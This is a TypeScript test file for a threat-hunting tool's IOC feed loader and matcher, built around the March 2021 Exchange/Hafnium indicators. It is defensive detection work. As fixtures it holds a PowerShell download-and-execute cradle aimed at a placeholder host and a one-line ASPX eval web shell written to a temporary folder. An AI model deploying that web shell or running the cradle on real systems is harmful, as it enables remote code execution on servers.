import assert from 'node:assert/strict';
import { spawnSync } from 'node:child_process';
import { createHash } from 'node:crypto';
import { mkdirSync, mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { after, test } from 'node:test';
import { loadFeed } from '../../src/hunt/ioc/feeds.js';
import { IocMatcher } from '../../src/hunt/ioc/matcher.js';
import { DATA, ROOT, SPOOR } from '../helpers/paths.js';

const tmp = mkdtempSync(join(tmpdir(), 'spoor-ioc-'));
after(() => rmSync(tmp, { recursive: true, force: true }));
const MSTIC = `${DATA}/ioc/mstic/MSTICIoCs-ExchangeServerVulnerabilitiesDisclosedMarch2021.csv`;
const CHIRP = `${DATA}/ioc/chirp/AA21062A.yaml`;

// Published March 2021 indicators (MSTIC's feed): a web shell's SHA-256 and the domain used after it.
const SHELL_SHA256 = '8e90ed33c7ee82c0b64078ea36ec95f7420ba435c693b3b3dd728b494abf7dfc';

function spoor(...args: string[]) {
  const r = spawnSync(process.execPath, [SPOOR, ...args], { encoding: 'utf8' });
  return { code: r.status, stdout: r.stdout, stderr: r.stderr };
}

test("feeds in the shared data: Microsoft's MSTIC CSV, CISA's CHIRP YAML, Loki's lists", () => {
  const mstic = loadFeed(MSTIC);
  assert.equal(mstic.format, 'csv');
  const count = (type: string) => mstic.indicators.filter((i) => i.type === type).length;
  // 152 rows: 45 SHA-256, 104 file paths, 3 domains (the file's own IndicatorType column).
  assert.deepEqual([count('sha256'), count('filepath'), count('domain'), mstic.indicators.length], [45, 104, 3, 152]);
  assert.ok(mstic.indicators.some((i) => i.type === 'filepath' && i.value === 'inetpub/wwwroot/aspnet_client/shell.aspx'));
  const chirp = loadFeed(CHIRP);
  assert.equal(chirp.format, 'chirp');
  assert.equal(chirp.indicators.length, 15);
  assert.ok(chirp.indicators.every((i) => i.type === 'ip' && i.name === 'IP addresesses related to possible Hafnium activity'));
  const loki = loadFeed(`${DATA}/ioc/signature-base/iocs/filename-iocs.txt`);
  assert.equal(loki.indicators.length, 0, "Loki's filename lists are regular expressions, not taken as paths");
  assert.ok(loadFeed(`${DATA}/ioc/signature-base/iocs/hash-iocs.txt`).indicators.length > 3000);
});

test('matching: whole words only, addresses in CIDR ranges, parent domains, URL hosts, ports, IPv6, hashes in any case', () => {
  const feed = join(tmp, 'list.txt');
  writeFileSync(feed, ['# a plain list', '5.254.43.18', '198.51.100.0/24;test range', 'krebsonsecurity.top', `${SHELL_SHA256.toUpperCase()};shell`, '2001:db8::dead', 'http://203.0.113.9/a.ps1', ''].join('\n'));
  const m = new IocMatcher(loadFeed(feed).indicators);
  const hits = (text: string) => m.matchText(text).map((h) => h.indicator.value).sort();
  assert.deepEqual(hits('GET / 5.254.43.18 200'), ['5.254.43.18']);
  assert.deepEqual(hits('from 5.254.43.180 and 15.254.43.18'), [], 'not a prefix or suffix of another address');
  assert.deepEqual(hits('c-ip=198.51.100.77:4431'), ['198.51.100.0/24']);
  assert.deepEqual(hits('beacon to brian.krebsonsecurity.top/x'), ['krebsonsecurity.top']);
  assert.deepEqual(hits('notkrebsonsecurity.top'), []);
  assert.deepEqual(hits(`sha256=${SHELL_SHA256}`), [SHELL_SHA256]);
  assert.deepEqual(hits('peer [2001:db8:0:0::dead]'), ['2001:db8::dead']);
  assert.deepEqual(hits('IEX (New-Object Net.WebClient).DownloadString("http://203.0.113.9/a.ps1")'), ['http://203.0.113.9/a.ps1']);
});

test('STIX 2.1 and MISP feeds: indicators from patterns and attributes; AND patterns set aside; hits name feed and indicator in hunt output', () => {
  const stix = join(tmp, 'hafnium.stix.json');
  writeFileSync(stix, JSON.stringify({
    type: 'bundle', id: 'bundle--5d0092c5-5f74-4287-9642-33f4c354e56d',
    objects: [
      { type: 'indicator', spec_version: '2.1', id: 'indicator--a932fcc6-e032-476c-826f-cb970a5a1ade', name: 'HAFNIUM VPS', pattern_type: 'stix', pattern: "[ipv4-addr:value = '104.140.114.110'] OR [ipv4-addr:value = '5.254.43.18']", valid_from: '2021-03-02T00:00:00Z' },
      { type: 'indicator', spec_version: '2.1', id: 'indicator--1ed8caa7-a708-4706-b651-f1186ede6ca1', name: 'China Chopper in aspnet_client', pattern_type: 'stix', pattern: `[file:hashes.'SHA-256' = '${SHELL_SHA256}']`, valid_from: '2021-03-02T00:00:00Z' },
      { type: 'indicator', spec_version: '2.1', id: 'indicator--c1b0a6e4-0000-4000-8000-000000000001', name: 'both at once', pattern_type: 'stix', pattern: "[ipv4-addr:value = '192.0.2.1' AND domain-name:value = 'a.example']", valid_from: '2021-03-02T00:00:00Z' },
      { type: 'indicator', spec_version: '2.1', id: 'indicator--c1b0a6e4-0000-4000-8000-000000000002', name: 'range', pattern_type: 'stix', pattern: "[ipv4-addr:value ISSUBSET '157.230.221.0/24']", valid_from: '2021-03-02T00:00:00Z' },
      { type: 'indicator', spec_version: '2.1', id: 'indicator--c1b0a6e4-0000-4000-8000-000000000003', name: 'sigma', pattern_type: 'sigma', pattern: 'title: x', valid_from: '2021-03-02T00:00:00Z' },
    ],
  }));
  const feed = loadFeed(stix);
  assert.equal(feed.format, 'stix');
  assert.deepEqual(feed.indicators.map((i) => `${i.type} ${i.value}`), ['ip 104.140.114.110', 'ip 5.254.43.18', `sha256 ${SHELL_SHA256}`, 'cidr 157.230.221.0/24']);
  assert.deepEqual([...feed.skipped], [['STIX patterns combining comparisons with AND', 1], ['sigma patterns', 1]]);

  const misp = join(tmp, 'misp.json');
  writeFileSync(misp, JSON.stringify({ Event: { info: 'Exchange March 2021', Attribute: [
    { uuid: '5f1a0000-0000-4000-8000-000000000001', type: 'domain|ip', value: 'krebsonsecurity.top|167.99.168.251' },
    { uuid: '5f1a0000-0000-4000-8000-000000000002', type: 'email-src', value: 'x@example.org' },
  ], Object: [{ name: 'file', Attribute: [{ uuid: '5f1a0000-0000-4000-8000-000000000003', type: 'filename', value: 'supp0rt.aspx' }] }] } }));
  const m = loadFeed(misp);
  assert.equal(m.format, 'misp');
  assert.deepEqual(m.indicators.map((i) => `${i.type} ${i.value} ${i.id}`), ['domain krebsonsecurity.top 5f1a0000-0000-4000-8000-000000000001', 'ip 167.99.168.251 5f1a0000-0000-4000-8000-000000000001', 'filename supp0rt.aspx 5f1a0000-0000-4000-8000-000000000003']);

  const events = join(tmp, 'events.jsonl');
  writeFileSync(events, [
    { Event: { System: { Channel: 'IIS', EventRecordID: 1, TimeCreated: { '#attributes': { SystemTime: '2021-03-03T02:11:02Z' } } }, EventData: { 'c-ip': '5.254.43.18', 'cs-uri-stem': '/aspnet_client/supp0rt.aspx' } } },
    { Event: { System: { Channel: 'IIS', EventRecordID: 2, TimeCreated: { '#attributes': { SystemTime: '2021-03-03T02:12:00Z' } } }, EventData: { 'c-ip': '10.1.2.3', 'cs-uri-stem': '/owa/' } } },
  ].map((e) => JSON.stringify(e)).join('\n'));
  const r = spoor('hunt', events, '--format', 'jsonl', '--rules', join(tmp, 'no-rules-here.yml'), '--ioc', stix, '--ioc', misp);
  assert.equal(r.code, 2, 'a --rules path that does not exist is a usage error');
  const ok = spoor('hunt', events, '--format', 'jsonl', '--ioc', stix, '--ioc', misp);
  assert.equal(ok.code, 0, ok.stderr);
  assert.match(ok.stderr, /--ioc .*hafnium\.stix\.json: stix, 4 indicators \(2 ip, 1 sha256, 1 cidr\); not used: 1 STIX patterns combining comparisons with AND, 1 sigma patterns/);
  const hits = ok.stdout.trim().split('\n').map((l) => JSON.parse(l)).filter((d) => d.rule.id.startsWith('spoor-ioc-'));
  assert.deepEqual(hits.map((d) => `${d.record_id} ${d.matched.feed} ${d.matched.indicator} ${d.matched.indicator_id ?? ''}`).sort(), [
    '1 hafnium.stix.json 5.254.43.18 indicator--a932fcc6-e032-476c-826f-cb970a5a1ade',
    '1 misp.json supp0rt.aspx 5f1a0000-0000-4000-8000-000000000003',
  ]);
});

test('exchange scan matches file hashes and the file paths of feeds against the collected files', () => {
  const dir = join(tmp, 'server');
  mkdirSync(join(dir, 'inetpub/wwwroot/aspnet_client'), { recursive: true });
  const content = '<%@ Page Language="Jscript"%><%eval(Request.Item["z"],"unsafe");%>';
  writeFileSync(join(dir, 'inetpub/wwwroot/aspnet_client/shell.aspx'), content);
  const stix = join(tmp, 'hash.stix.json');
  const sha256 = createHash('sha256').update(content).digest('hex');
  writeFileSync(stix, JSON.stringify({ type: 'bundle', id: 'bundle--1', objects: [{ type: 'indicator', id: 'indicator--2', name: 'our shell', pattern_type: 'stix', pattern: `[file:hashes.'SHA-256' = '${sha256}']` }] }));
  const r = spoor('exchange', 'scan', dir, '--format', 'jsonl', '--ioc', MSTIC, '--ioc', stix);
  assert.equal(r.code, 0, r.stderr);
  const found = r.stdout.trim().split('\n').map((l) => JSON.parse(l));
  const iocs = found.filter((d) => d.rule.id.startsWith('spoor-ioc-')).map((d) => `${d.matched.type} ${d.matched.feed} ${d.matched.path}`).sort();
  assert.deepEqual(iocs, [
    'filepath MSTICIoCs-ExchangeServerVulnerabilitiesDisclosedMarch2021.csv inetpub/wwwroot/aspnet_client/shell.aspx',
    'sha256 hash.stix.json inetpub/wwwroot/aspnet_client/shell.aspx',
  ]);
  assert.ok(found.some((d) => d.rule.title === 'Unexpected page in an Exchange web folder'));
  assert.match(r.stderr, /Exchange build: not found in the logs/);
});

test('hostile STIX patterns: a million-character run before a comparison is read in one pass (it was tried from each of its positions)', () => {
  const stix = join(tmp, 'long-run.stix.json');
  const pattern = `[${'9'.repeat(1_000_000)} OR ipv4-addr:value = '198.51.100.7']`;
  writeFileSync(stix, JSON.stringify({ type: 'bundle', id: 'bundle--1', objects: [{ type: 'indicator', spec_version: '2.1', id: 'indicator--00000000-0000-4000-8000-000000000000', pattern_type: 'stix', pattern, valid_from: '2021-01-01T00:00:00Z' }] }));
  const log = join(tmp, 'u_ex210101.log');
  writeFileSync(log, '#Software: Microsoft Internet Information Services 10.0\n#Fields: date time s-ip cs-method cs-uri-stem c-ip\n2021-01-01 00:00:00 10.0.0.5 GET /owa 198.51.100.7\n');
  // In a child process: a regex that backtracks cannot be interrupted in this one, only killed there.
  const r = spawnSync(process.execPath, [SPOOR, 'hunt', log, '--rules', `${ROOT}/rules/exchange`, '--ioc', stix, '-f', 'jsonl'], { encoding: 'utf8', timeout: 60_000 });
  assert.equal(r.status, 0, r.error ? String(r.error) : r.stderr);
  assert.match(r.stderr, /stix, 1 indicators/);
  assert.match(r.stdout, /198\.51\.100\.7/);
});

test('hostile feeds: random JSON, YAML, CSV and text are read or refused with a FeedError naming the file, never anything else', async () => {
  const fc = (await import('fast-check')).default;
  const { FeedError } = await import('../../src/hunt/ioc/feeds.js');
  const feed = fc.oneof(
    fc.json(),
    fc.jsonValue().map((v) => JSON.stringify({ type: 'bundle', objects: [{ type: 'indicator', pattern: v }, v] })),
    // JSON.stringify, not String: a generated object may have a toString key that is not a function.
    fc.jsonValue().map((v) => JSON.stringify({ Event: { Attribute: [v, { type: 'ip-dst|port', value: typeof v === 'string' ? v : JSON.stringify(v) }] } })),
    fc.string().map((t) => `---\nioc_type: network\nindicator:\n  ips: |\n    ${t}\n`),
    fc.array(fc.string(), { maxLength: 5 }).map((rows) => `Indicator,IndicatorType\n${rows.join('\n')}`),
    fc.string({ maxLength: 200 }),
  );
  const file = join(tmp, 'fuzz-feed');
  fc.assert(
    fc.property(feed, (text) => {
      writeFileSync(file, text);
      try {
        const f = loadFeed(file);
        new IocMatcher(f.indicators).matchText(text.slice(0, 500));
      } catch (e) {
        assert.ok(e instanceof FeedError, String(e));
        assert.ok((e as Error).message.startsWith(file));
      }
    }),
    { numRuns: 600 },
  );
});
